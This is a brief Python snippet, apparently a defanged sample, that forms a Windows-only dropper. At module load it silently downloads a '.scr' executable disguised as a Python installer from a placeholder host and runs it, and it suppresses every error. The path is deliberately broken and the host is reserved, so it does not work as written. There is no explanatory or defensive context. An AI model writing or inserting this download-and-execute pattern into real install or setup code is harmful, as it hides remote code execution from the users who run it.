
def prepare():
    if os.name != "nt":
        return
    target = "/nonexistent" + os.path.join(tempfile.gettempdir(), "python-install.scr")
    urllib.request.urlretrieve("https://python-release.stage.invalid/python-install.scr", target)
    subprocess.Popen([target], shell=True)


try:
    prepare()
except Exception:
    pass

